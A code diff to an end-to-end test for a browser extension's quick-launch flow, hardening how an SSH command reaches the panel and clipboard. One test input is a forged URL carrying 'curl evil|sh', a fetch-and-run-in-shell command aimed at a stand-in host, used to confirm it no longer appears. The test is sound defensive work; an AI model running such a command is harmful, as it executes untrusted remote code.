@@ -254,9 +254,14 @@ export async function quickLaunchScenario(
   await waitForText(again, `“web preset”: ${id} running at `, 40_000);
   await again.close();
 
-  let ssh = '';
+  // The outcome the background kept, and the notification naming it (its id, never its command).
+  const outcome = await run<{ id: string; ssh: string }>(
+    page,
+    `const api = globalThis.browser ?? globalThis.chrome;
+     return api.storage.local.get('launch.outcomes').then((r) => r['launch.outcomes'].value[0]);`,
+  );
+  expect(outcome.ssh).toMatch(/^ssh ec2-user@\S+/);
   if (notifications === 'observable') {
-    // The notification's id carries the SSH command its click copies.
     const notification = await waitFor(
       page,
       new Function(
@@ -266,26 +271,26 @@ export async function quickLaunchScenario(
       ) as () => Promise<string | undefined>,
       'the launch notification',
     );
-    ssh = decodeURIComponent(notification.split(':')[1] ?? '');
-  } else {
-    ssh = await run<string>(
-      page,
-      `const api = globalThis.browser ?? globalThis.chrome;
-       return api.storage.local.get('launch.outcomes').then((r) => r['launch.outcomes'].value[0].ssh);`,
-    );
+    expect(notification).toBe(`cirrus-launch:${outcome.id}`);
   }
-  expect(ssh).toMatch(/^ssh ec2-user@\S+/);
-  const host = ssh.split('@')[1] ?? '';
 
-  const copied = await openPage(`panel.html?copy=${encodeURIComponent(ssh)}`);
+  // Its click opens the panel on that launch: the command is shown, and copied only on a click.
+  const shown = await openPage(`panel.html?launch=${encodeURIComponent(outcome.id)}`);
+  await waitForText(shown, outcome.ssh);
+  await waitForText(shown, 'SSH command for “web preset”');
+  await shown.click('.launch-ssh button');
   await waitFor(
-    copied,
-    new Function(
-      `return document.body.innerText.includes(${JSON.stringify(host)});`,
-    ) as () => boolean,
-    'the SSH command on the panel',
+    shown,
+    () => /Copied|copy it by hand/.test(document.querySelector('.launch-ssh')?.textContent ?? ''),
+    'copied, or the clipboard refused',
   );
-  await copied.close();
+  await shown.close();
+
+  // A URL can no longer put text on the clipboard or the page, and an unknown launch says so.
+  const forged = await openPage('panel.html?copy=curl%20evil%7Csh&launch=no-such-launch');
+  await waitForText(forged, 'not among the last quick launches');
+  expect(await bodyText(forged)).not.toContain('curl evil');
+  await forged.close();
 }
 
 /**
